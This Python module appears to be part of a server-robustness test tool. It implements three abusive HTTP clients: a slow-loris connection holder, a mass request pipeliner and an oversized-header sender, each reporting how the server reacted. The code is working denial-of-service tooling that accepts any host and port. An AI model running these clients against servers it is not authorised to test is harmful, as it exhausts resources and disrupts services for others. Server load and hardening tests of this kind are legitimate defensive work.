"""Clients that cost a server more than they pay: a slow loris, endless pipelining, a header block without measure."""
import selectors
import socket
import time

from plain_sockets import bytes_of, read_to_end, send_all


def add_commands(commands):
    loris = commands.add_parser("slow-loris", help="many connections that send a header byte at a time, and never end it")
    loris.add_argument("host")
    loris.add_argument("port", type=int)
    loris.add_argument("--connections", type=int, default=50)
    loris.add_argument("--interval", type=float, default=0.2, help="seconds between bytes")
    loris.add_argument("--duration", type=float, default=10.0, help="seconds until it gives up")
    loris.add_argument("--first", default="GET / HTTP/1.1\r\nHost: sinkhole.example\r\nX-Slow: ")
    loris.set_defaults(run=run_slow_loris)

    pipeline = commands.add_parser("pipeline", help="requests in one go, without waiting for an answer")
    pipeline.add_argument("host")
    pipeline.add_argument("port", type=int)
    pipeline.add_argument("--count", type=int, default=10_000)
    pipeline.add_argument("--host-header", default="sinkhole.example")
    pipeline.set_defaults(run=run_pipeline)

    header = commands.add_parser("big-header", help="one request with so many bytes of header")
    header.add_argument("host")
    header.add_argument("port", type=int)
    header.add_argument("--bytes", type=int, default=1 << 20)
    header.add_argument("--lines", type=int, default=1, help="spread over so many lines")
    header.add_argument("--host-header", default="sinkhole.example")
    header.set_defaults(run=run_big_header)


def run_slow_loris(arguments):
    connections = [
        socket.create_connection((arguments.host, arguments.port), arguments.timeout)
        for _ in range(arguments.connections)
    ]
    begun = time.monotonic()
    for connection in connections:
        connection.sendall(bytes_of(arguments.first))
    # seconds after which each was ended by the other side
    ended = []
    still = drip(connections, ended, begun, arguments)
    for connection in still:
        connection.close()
    return {"opened": arguments.connections, "open": len(still), "endedAfter": [round(at, 1) for at in sorted(ended)]}


def drip(connections, ended, begun, arguments):
    still = list(connections)
    while still and time.monotonic() - begun < arguments.duration:
        with selectors.DefaultSelector() as selector:
            for connection in still:
                selector.register(connection, selectors.EVENT_READ)
            readable = {key.fileobj for key, _ in selector.select(arguments.interval)}
        if not readable:
            readable = {connection for connection in still if not sends_one(connection)}
        over = {connection for connection in readable if is_over(connection)}
        for connection in over:
            ended.append(time.monotonic() - begun)
            connection.close()
        still = [connection for connection in still if connection not in over]
    return still


def sends_one(connection):
    try:
        connection.send(b"a")
        return True
    except OSError:
        return False


def is_over(connection):
    try:
        return connection.recv(65536) == b""
    except OSError:
        return True


def run_pipeline(arguments):
    """Reads while it writes: who only writes would wait for ever for a server that only answers."""
    request = f"GET /status/200 HTTP/1.1\r\nHost: {arguments.host_header}\r\n\r\n".encode("latin-1")
    left = memoryview(request * arguments.count)
    answers, tail, ending = 0, b"", "timeout"
    with socket.create_connection((arguments.host, arguments.port), arguments.timeout) as connection:
        connection.setblocking(False)
        with selectors.DefaultSelector() as selector:
            selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
            while answers < arguments.count:
                events = selector.select(arguments.timeout)
                if not events:
                    break
                try:
                    if events[0][1] & selectors.EVENT_WRITE:
                        left = left[connection.send(left[:65536]) :]
                        if not left:
                            selector.modify(connection, selectors.EVENT_READ)
                    if events[0][1] & selectors.EVENT_READ:
                        data = connection.recv(65536)
                        if not data:
                            ending = "end"
                            break
                        # an answer's first bytes may be cut between two reads
                        text = tail + data
                        answers += text.count(b"HTTP/1.1 ")
                        tail = text[-8:]
                except ConnectionError:
                    ending = "reset"
                    break
            else:
                ending = "complete"
    return {"answers": answers, "unsentBytes": len(left), "ending": ending}


def run_big_header(arguments):
    line = b"X-Big: " + b"a" * max(1, arguments.bytes // arguments.lines - 9) + b"\r\n"
    head = f"GET / HTTP/1.1\r\nHost: {arguments.host_header}\r\n".encode("latin-1") + line * arguments.lines
    with socket.create_connection((arguments.host, arguments.port), arguments.timeout) as connection:
        is_sent = send_all(connection, head + b"\r\n", ends=False)
        data, ending = read_to_end(connection)
    return {"isSent": is_sent, "received": data[:2048].decode("latin-1"), "ending": ending}
